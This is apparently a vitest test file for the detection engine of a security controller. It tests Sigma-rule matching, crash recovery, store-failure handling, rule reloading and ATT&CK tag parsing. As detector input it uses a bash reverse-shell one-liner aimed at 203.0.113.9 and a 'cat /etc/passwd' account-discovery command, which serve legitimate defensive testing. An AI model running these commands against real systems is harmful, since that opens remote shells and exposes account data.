import { mkdirSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { FakeClock } from '@firebreak/shared/clock.fake.ts'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { DISCOVERY, processEvent, REVERSE_SHELL, Rig, type RigOptions, Site } from '../deciding.fixture.ts'
import type { StateStore } from '../store/state/state-store.ts'
import { accountingSignal } from './accounting-signals.ts'
import { tacticsOf, techniquesOf } from './attack-tags.ts'

const SHELL = 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'
const BROKEN =
  'title: Broken\nlogsource: { product: linux }\ndetection: { selection: { CommandLine: x }, condition: nothing }\n'

let site: Site
let clock: FakeClock
let rig: Rig | undefined

beforeEach(() => {
  site = new Site()
  clock = new FakeClock()
})
afterEach(async () => {
  await rig?.stop()
  rig = undefined
  site.forget()
})
async function started(options: RigOptions = {}): Promise<Rig> {
  rig = await Rig.open(site, clock, options)
  await rig.start()
  return rig
}
const signals = (rig: Rig) => rig.store.db.selectFrom('signals').selectAll().orderBy('created_at').execute()
const names = (rig: Rig) => rig.logged.map((line) => line.name)
const undetected = async (rig: Rig) =>
  (await rig.store.db.selectFrom('ingest_batches').select('id').where('detected', '=', 0).execute()).length

describe('detection', () => {
  it('names technique, tactic, rule and event of what it finds', async () => {
    const rig = await started()
    const host = await rig.host('web-1')
    await rig.commit(host, [processEvent(clock, SHELL)])
    await rig.settle()
    expect(await signals(rig)).toMatchObject([
      {
        agent_id: host,
        detector: 'sigma',
        rule_id: '3c5e1a76-6d2e-4a4e-9c55-0a4b3a6c9d10',
        rule_title: 'Reverse Shell Over Bash',
        level: 'critical',
        techniques: '["T1059.004"]',
        tactics: '["execution","command-and-control"]',
        event_id: `${host}:e:process:1`,
        alert_id: expect.any(String),
      },
    ])
    expect(JSON.parse((await signals(rig))[0]?.event ?? '')).toMatchObject({
      process: { command_line: SHELL },
      host: { id: host },
    })
  })

  it('begins with the word that a batch is committed and waits for no timer', async () => {
    const rig = await started()
    const host = await rig.host('web-1')
    await rig.commit(host, [processEvent(clock, SHELL)])
    // The clock stands still: nothing that waits for time can have done it.
    for (let turn = 0; turn < 200 && (await undetected(rig)) > 0; turn++)
      await new Promise((resolve) => setImmediate(resolve))
    expect(await undetected(rig)).toBe(0)
  })

  it('takes up at the start what was acked and not looked at before a crash', async () => {
    const before = await Rig.open(site, clock)
    await before.commit(await before.host('web-1'), [processEvent(clock, SHELL)])
    await before.store.close()
    const rig = await started()
    for (let turn = 0; turn < 200 && (await undetected(rig)) > 0; turn++)
      await new Promise((resolve) => setImmediate(resolve))
    expect(await signals(rig)).toHaveLength(1)
  })

  it('loses nothing and doubles nothing when the store fails for a while', async () => {
    let failing = 0
    const rig = await started({
      wrapStore: (store): StateStore => ({
        db: store.db,
        healthy: () => failing === 0,
        close: () => store.close(),
        async write(work) {
          if (failing > 0) {
            failing--
            throw new Error('disk full')
          }
          return await store.write(work)
        },
      }),
    })
    const host = await rig.host('web-1')
    failing = 5
    await rig.commit(host, [processEvent(clock, SHELL), processEvent(clock, 'cat /etc/passwd')])
    for (let i = 0; i < 500 && (await undetected(rig)) > 0; i++) await clock.advance(10)
    await rig.settle()
    expect(failing).toBe(0)
    expect(await signals(rig)).toHaveLength(2)
    expect(await undetected(rig)).toBe(0)
    expect(names(rig)).toContain('detect.feed.failed')
  })

  it('matches what comes after a signal that still waits for its look-ups, and stores both in order', async () => {
    const answers: ((found: { events: number; hosts: number }) => void)[] = []
    const rig = await started({ prevalence: () => new Promise((resolve) => answers.push(resolve)) })
    const host = await rig.host('web-1')
    await rig.commit(host, [processEvent(clock, SHELL)])
    await rig.commit(host, [processEvent(clock, 'cat /etc/passwd')])
    await expect.poll(() => answers.length).toBe(2)
    answers[1]?.({ events: 0, hosts: 0 })
    await new Promise((resolve) => setTimeout(resolve, 50))
    expect(await signals(rig)).toEqual([])
    answers[0]?.({ events: 0, hosts: 0 })
    await rig.settle()
    expect((await signals(rig)).map((signal) => signal.rule_title)).toEqual([
      'Reverse Shell Over Bash',
      'Account Discovery',
    ])
  })

  it('goes on past a signal that cannot be stored, and names it', async () => {
    const rig = await started({
      wrapStore: (store): StateStore => ({
        ...store,
        db: store.db,
        healthy: () => true,
        close: () => store.close(),
        write: (work) =>
          store.write(async (tx) => {
            const value = await work(tx)
            const bad = await tx
              .selectFrom('signals')
              .select('id')
              .where('event', 'like', '%poison%')
              .executeTakeFirst()
            if (bad !== undefined) throw new Error('a bug')
            return value
          }),
      }),
    })
    const host = await rig.host('web-1')
    await rig.commit(host, [processEvent(clock, `${SHELL} poison`), processEvent(clock, 'cat /etc/passwd')])
    await rig.commit(host, [processEvent(clock, SHELL)])
    await rig.settle()
    expect((await signals(rig)).map((signal) => signal.rule_title).sort()).toEqual([
      'Account Discovery',
      'Reverse Shell Over Bash',
    ])
    expect(await undetected(rig)).toBe(0)
    expect(rig.logged.filter((line) => line.name === 'detect.signal.failed')).toHaveLength(1)
  })

  it('takes what the controller’s own books say through the same door, once', async () => {
    const rig = await started()
    const agentId = await rig.host('web-1')
    const finding = {
      kind: 'host_cloned',
      agentId,
      key: 'session-1',
      atMs: clock.now(),
      message: 'two boots at once',
    } as const
    await rig.detect.raise(accountingSignal(finding))
    await rig.detect.raise(accountingSignal(finding))
    await rig.settle()
    expect(await signals(rig)).toMatchObject([{ detector: 'accounting', rule_id: 'host.cloned', level: 'high' }])
    expect(await rig.store.db.selectFrom('incidents').selectAll().execute()).toMatchObject([{ route: 'ask' }])
  })

  it('gives an event that matches more rules than allowed to the strongest of them, and says so', async () => {
    const many = Array.from({ length: 70 }, (_, i) =>
      DISCOVERY.replace('Account Discovery', `Copy ${i}`)
        .replace(/^id: .*$/m, `id: copy-${i}`)
        .replace(/level: medium/, `level: ${i === 69 ? 'high' : 'low'}`),
    )
    const rig = await started({ rules: many })
    await rig.commit(await rig.host('web-1'), [processEvent(clock, 'cat /etc/passwd')])
    await rig.settle()
    expect(await signals(rig)).toHaveLength(64)
    expect((await signals(rig)).some((signal) => signal.level === 'high')).toBe(true)
    expect(names(rig)).toContain('detect.event.overmatched')
  })
})

describe('rules', () => {
  it('that cannot be read are named with file and line, and the others run', async () => {
    const rig = await started({ rules: [BROKEN, REVERSE_SHELL] })
    expect(rig.detect.rulesHealth()).toEqual({ ready: true, live: 1, refused: 1, kept: 0 })
    expect(rig.logged.find((line) => line.name === 'detect.rule.refused')?.fields).toMatchObject({
      file: '0.yml',
      line: 3,
      rule: 'Broken',
    })
    expect(rig.detect.ruleList()).toMatchObject([
      { title: 'Reverse Shell Over Bash', state: 'live', techniques: ['T1059.004'], matches: 0 },
      { title: 'Broken', state: 'refused', why: expect.stringContaining('line 3') },
    ])
    expect(await rig.metrics.metrics()).toContain('firebreak_detect_rules_refused{code="selection_unknown"} 1')
  })

  it('are read anew on request, and stay as they were when nothing of the new ones would run', async () => {
    const dir = site.rules([REVERSE_SHELL])
    const rig = await started({ ruleDirs: [dir] })
    writeFileSync(join(dir, '1.yml'), DISCOVERY)
    expect(await rig.detect.reloadRules()).toMatchObject({ ready: true, live: 2 })
    writeFileSync(join(dir, '0.yml'), BROKEN)
    rmSync(join(dir, '1.yml'))
    expect(await rig.detect.reloadRules()).toMatchObject({
      ready: true,
      live: 2,
      why: expect.stringContaining('none of 1 files'),
    })
    rmSync(dir, { recursive: true })
    expect(await rig.detect.reloadRules()).toMatchObject({
      ready: true,
      live: 2,
      why: expect.stringContaining('cannot be read'),
    })
    await rig.commit(await rig.host('web-1'), [processEvent(clock, SHELL)])
    await rig.settle()
    expect(await signals(rig)).toHaveLength(1)
  })

  it('of one id are one rule: the second is refused by name', async () => {
    const rig = await started({ rules: [REVERSE_SHELL, REVERSE_SHELL] })
    expect(rig.detect.rulesHealth()).toMatchObject({ live: 1, refused: 1, kept: 0 })
    expect(rig.detect.ruleList()[1]?.why).toContain('the id is taken by 0.yml, line 1')
  })

  it('make the controller not ready when there are none', async () => {
    const dir = join(site.dir, 'empty')
    mkdirSync(dir)
    const rig = await started({ ruleDirs: [dir] })
    expect(rig.detect.rulesHealth()).toMatchObject({
      ready: false,
      live: 0,
      why: expect.stringContaining('no rules in'),
    })
  })
})

it('tags of ATT&CK are techniques and tactics, in old and new spelling', () => {
  const tags = [
    'attack.t1059.004',
    'attack.T1071',
    'attack.command_and_control',
    'attack.defense-evasion',
    'attack.g0016',
    'attack.s0154',
    'cve.2021.44228',
  ]
  expect(techniquesOf(tags)).toEqual(['T1059.004', 'T1071'])
  expect(tacticsOf(tags)).toEqual(['command-and-control', 'defense-evasion'])
})
